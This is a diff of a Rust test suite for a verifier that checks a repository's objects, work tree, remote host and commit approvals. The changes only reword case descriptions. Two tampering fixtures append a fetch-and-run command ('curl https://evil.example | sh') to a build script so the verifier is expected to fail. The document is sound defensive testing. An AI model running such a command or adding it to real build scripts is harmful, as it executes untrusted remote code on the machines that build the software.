@@ -53,7 +53,7 @@ fn objects() -> Vec<Case> {
         fails("object-missing-tree", "HEAD's tree is missing.")
             .inner(|entries| remove(entries, TREE))
             .expect("source-tree", "not-run: refused"),
-        fails("object-missing-and-file-changed", "A blob of HEAD is missing, and another file has other bytes.")
+        fails("object-missing-and-file-changed", "A blob of HEAD is missing, and a different file was changed.")
             .inner(|entries| remove(entries, BLOB))
             .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n"))
             .expect("source-tree", "fail"),
@@ -291,7 +291,7 @@ fn work_tree() -> Vec<Case> {
     vec![
         fails("tree-file-changed", "A file differs from its blob.")
             .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n")),
-        fails("tree-file-added", "A file is not in the commit.").inner(add("scripts/extra.sh")),
+        fails("tree-file-added", "The work tree has a file that is not in the commit.").inner(add("scripts/extra.sh")),
         fails("tree-file-missing", "A file of the commit is missing.")
             .inner(|entries| entries.retain(|entry| entry.path != b"git/wallet/go.mod")),
         fails("tree-file-ignored", "An untracked file is ignored by a rule: git status would not show it.")
@@ -325,7 +325,7 @@ fn work_tree() -> Vec<Case> {
                 entries.push(Entry::file("git/wallet/lib/code.c", "int main;\n"));
             },
         ),
-        Case::good("good-hard-link", "A ref is a hard link to an earlier, equal ref: the same file again.").inner(
+        Case::good("good-hard-link", "A ref is a hard link to an earlier ref with the same content.").inner(
             |entries| {
                 // HEAD's own tree: without it there is no commit.
                 let path = b"git/wallet/.git/refs/heads/main";
@@ -408,7 +408,7 @@ fn repository() -> Vec<Case> {
                 Case::fails(
                     "repository-other-host",
                     "source-repository",
-                    "The remote's host only has the policy's host as a prefix.",
+                    "The policy's host is only a prefix of the remote's.",
                 ),
                 "\"git@github.com:acme/wallet.git\"",
             ),
@@ -507,7 +507,7 @@ fn approvals() -> Vec<Case> {
     vec![
         given(Case::good("good-approved", "Someone other than the author approved the commit before the build."), list(good))
             .expect("source-approved", "pass"),
-        Case::good("good-approved-json", "The same list as JSON.")
+        Case::good("good-approved-json", "The list of approvals is JSON.")
             .file("approvals.json", format!(
                 "[{{\"repository\": \"https://github.com/acme/wallet\", \"commit\": \"{head}\", \"change\": \"CHG-1\", \"approver\": \"grace@example.com\", \"time\": \"2026-02-27T09:00:00Z\"}}]\n"
             ))
